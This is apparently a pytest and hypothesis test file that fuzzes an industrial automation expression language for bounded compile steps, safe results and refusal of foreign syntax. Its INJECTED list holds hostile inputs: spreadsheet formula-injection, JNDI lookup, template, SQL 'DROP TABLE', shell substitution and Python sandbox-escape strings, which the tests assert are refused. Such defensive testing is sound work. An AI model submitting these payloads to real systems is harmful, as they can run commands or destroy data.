"""Whatever text and whatever values come: an error that names its place or a result, within a bounded number of steps."""

from __future__ import annotations

import math
import sys
from collections.abc import Callable
from types import FrameType

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from automation.expressions.expression import Expression
from automation.expressions.rename import renamed
from automation.expressions.result import INT_MAX, TEXT_MAX
from automation.expressions.text import LENGTH_MAX
from automation.expressions.units import check_units
from automation.model.errors import ConfigError
from automation.model.quality import Quality
from automation.model.sample import Sample, Value
from automation.model.units import quantities
from automation.units.convert import root_of

# Calls of functions, those of the interpreter included. Measured: 65 for the dearest character and 13 to evaluate it, 4,500 for
# the search of the unit that was meant, 40,000 for that of a unit by its size.
STEPS_AT_ALL = 10_000
STEPS_TO_NAME_A_UNIT = 100_000
STEPS_PER_CHARACTER = 200
STEPS_PER_EVALUATION = 60


@pytest.fixture(scope="module", autouse=True)
def _units_are_loaded() -> None:
    for quantity in quantities():
        for unit in quantity.units:
            root_of(unit)


def steps(work: Callable[[], object]) -> int:
    """How many calls the work makes; the same at each run, however busy the machine."""
    count = 0

    def each(_frame: FrameType, event: str, _argument: object) -> None:
        nonlocal count
        count += event in ("call", "c_call")

    before = sys.getprofile()
    sys.setprofile(each)
    try:
        work()
    finally:
        sys.setprofile(before)
    return count


INJECTED = [
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+HYPERLINK(\"http://x\")", "-2+3+cmd|' /C calc'!A0", "\t=1+1",
    "\r=1", '=IMPORTXML(CONCAT("http://x?",A1),"//a")', "${jndi:ldap://x}", "{{7*7}}", "'; DROP TABLE tags; --", "`id`", "$(id)",
    "__import__('os').system('id')", "().__class__.__mro__", "A.__class__", "tag('A.__class__')", "tag('=1+1')", "%s%s%n", "{0}",
    "lambda: 0", "(yield)", "[].append(1)", "exec('1')", "globals()", "print(A)", "A if True else __builtins__",
]  # fmt: skip
NUMBERS = [
    "nan", "NaN", "inf", "-inf", "1e400", "-1e400", "1e-400", "-0.0", "0.0", "1e308 * 10", "1e308 + 1e308",
    "9223372036854775807", "9223372036854775808", "-9223372036854775808", "0/0", "0.0 ** -1", "(-8) ** 0.5", "2 ** 100",
    "10.0 ** 100", "1/1e-400", "0 % 0", "1_0", "0x10", "0b1", "1j", "٣", "１", "1.", ".5", "1e", "00",
    "1e5e5", "9" * 400, "0." + "1" * 400, "1e" + "9" * 30,
]  # fmt: skip
STRANGE = [
    "é",
    "Ａ",
    "\u202eA",
    "\ud800",
    "\x00",
    "\ufeffA",
    "A\u200b",
    "A\u0301",
    "'\u202e'",
    "'\ud800'",
    "ß == 'ß'",
    "😀",
    "'😀' == A",
]
DEEP = [
    "(" * 20 + "A" + ")" * 20, "(" * 21 + "A" + ")" * 21, "(" * 1000 + "A" + ")" * 1000, "-" * 59 + "A", "-" * 999 + "A",
    "not " * 499 + "A", "abs(" * 20 + "A" + ")" * 20, "A" + "**2" * 200, "A" + "-A" * 59, "A" + "-A" * 290, "A" + "+A" * 290,
    "A if A else " * 50 + "A", "A if A else " * 160 + "A", "A and " * 290 + "A", "A<" * 290 + "A", "A." * 290 + "A",
    "max(" + "A," * 290 + "A)", "((((A ** 100) ** 100) ** 100) ** 100)", "'a' + " * 290 + "'a'", "'" + "a" * 1990 + "'",
    "A" * 2000, "delay(" * 19 + "A" + ",1)" * 19, "totalise(" * 19 + "A" + ")" * 19, "convert(" * 15 + "A" + ",'bar','psi')" * 15,
    " " * 2000, "\n" * 1999 + "A", "tag('A')+" * 140 + "A", "f(" * 20 + "1 1" + ")" * 20, "rate(A,1)+" * 95 + "1", "[" * 1000,
    "{" * 1000,
]  # fmt: skip
WORDS = [
    "A", "B.C", "tag('A-1')", "1", "2.5", "1e308", "-", "+", "*", "/", "//", "%", "**", "(", ")", ",", "<", "==", "!=", "and",
    "or", "not", "if", "else", "in", "avg(", "min(", "clamp(", "round(", "sqrt(", "exp(", "delay(", "rate(", "totalise(",
    "hysteresis(", "first_good(", "good(", "if_(", "convert(", "'bar'", "'psi'", "'degC'", "'h'", "per=", "x=", "=", ".", " ",
    "\n", "'",
]  # fmt: skip
texts = (
    st.text(max_size=200)
    | st.sampled_from([*INJECTED, *NUMBERS, *STRANGE, *DEEP])
    | st.lists(st.sampled_from(WORDS), max_size=60).map(" ".join)
    | st.lists(st.sampled_from([*WORDS, *INJECTED, *NUMBERS, *STRANGE]), max_size=20).map("".join)
)
values = (
    st.sampled_from(
        [math.nan, math.inf, -math.inf, -0.0, 0.0, 5e-324, 1.7e308, -1.7e308, 2**63 - 1, -(2**63), True, False, None, ""]
    )
    | st.floats()
    | st.integers(-(2**63), 2**63 - 1)
    | st.text(max_size=TEXT_MAX)
    | st.sampled_from([*INJECTED, "a" * TEXT_MAX])
)
qualities = st.sampled_from([Quality.GOOD, Quality.GOOD, Quality.UNCERTAIN, Quality.BAD, Quality.BAD_NO_COMMUNICATION])


def compiled(text: str) -> Expression | None:
    """The expression, or None if it was refused as it should be."""
    try:
        return Expression.compile(text)
    except ConfigError as error:
        assert str(error).startswith("expression: ")  # noqa: PT017 - either is right
        assert len(str(error)) < 300  # noqa: PT017
        return None


def every(examples: list[str]) -> Callable[[Callable[..., None]], Callable[..., None]]:
    """Have each of the texts tried at every run."""

    def decorate(test: Callable[..., None]) -> Callable[..., None]:
        for text in examples:
            test = example(text)(test)
        return test

    return decorate


@given(texts)
@every([*INJECTED, *NUMBERS, *STRANGE, *DEEP])
def test_any_text_is_compiled_or_refused_in_a_bounded_number_of_steps(text: str) -> None:
    count = steps(lambda: compiled(text))

    assert count <= STEPS_AT_ALL + STEPS_PER_CHARACTER * min(len(text), LENGTH_MAX)


@given(texts, st.sampled_from(["bar", "degC", "m3/h", "1", "", "=1+1"]), st.sampled_from(["bar", "K", "", "nonsense"]))
def test_units_of_any_text_are_found_or_refused_in_a_bounded_number_of_steps(text: str, unit: str, wanted: str) -> None:
    def check() -> None:
        try:
            check_units(text, lambda _name: unit, wanted)
        except ConfigError as error:
            assert str(error).startswith("expression: ")  # noqa: PT017 - either is right

    count = steps(check)

    assert count <= STEPS_TO_NAME_A_UNIT + 2 * (STEPS_AT_ALL + STEPS_PER_CHARACTER * min(len(text), LENGTH_MAX))


@given(texts, texts, texts)
def test_renaming_in_any_text_gives_an_expression_or_is_refused(text: str, old: str, new: str) -> None:
    try:
        result = renamed(text, old, new)
    except ConfigError as error:
        assert str(error).startswith("expression: ")  # noqa: PT017
        return

    assert compiled(result) is not None


@given(texts, st.lists(st.tuples(values, qualities), min_size=1, max_size=4))
def test_any_values_give_a_result_that_a_tag_can_hold_or_bad(text: str, given_: list[tuple[Value, Quality]]) -> None:
    expression = compiled(text)
    if expression is None:
        return
    memories = expression.memories()
    for now, (value, quality) in enumerate(given_):
        sample = Sample(value, quality, float(now), float(now))
        results = []

        def evaluate(now: float = now, sample: Sample = sample, results: list[object] = results) -> None:
            results.append(expression.evaluate(lambda _name: sample, memories, float(now)))

        count = steps(evaluate)
        [result] = results
        found = result.value  # type: ignore[attr-defined]
        if result.quality.is_bad:  # type: ignore[attr-defined]
            assert found is None
        else:
            assert isinstance(found, str | int | float)
            assert not isinstance(found, str) or len(found) <= TEXT_MAX
            assert isinstance(found, str) or (math.isfinite(found) and (isinstance(found, float) or abs(found) <= INT_MAX + 1))
        assert count <= STEPS_PER_EVALUATION * (len(text) + 10)


@pytest.mark.parametrize("text", INJECTED)
def test_what_was_meant_for_somebody_elses_parser_is_refused(text: str) -> None:
    with pytest.raises(ConfigError, match=r"^expression: "):
        Expression.compile(text)


@pytest.mark.parametrize(
    "text", ["1e400", "-1e400", "9223372036854775808", "0/0", "1e308 * 10", "0 % 0", "(-8) ** 0.5", "9" * 400]
)
def test_a_constant_that_is_no_number_is_refused(text: str) -> None:
    with pytest.raises(ConfigError, match=r"too large|division by zero|whole exponent"):
        Expression.compile(text)


@pytest.mark.parametrize("value", [math.nan, math.inf, -math.inf])
@pytest.mark.parametrize(
    "text", ["A", "A + 1", "max(A, 1)", "A == A", "if_(A > 1, 1, 2)", "clamp(A, 0, 1)", "convert(A, 'bar', 'psi')"]
)
def test_what_is_not_finite_makes_the_result_bad(text: str, value: float) -> None:
    expression = Expression.compile(text)

    result = expression.evaluate(lambda _name: Sample(value, Quality.GOOD, 1.0, 1.0), expression.memories(), 1.0)

    assert result.quality.is_bad
    assert result.value is None
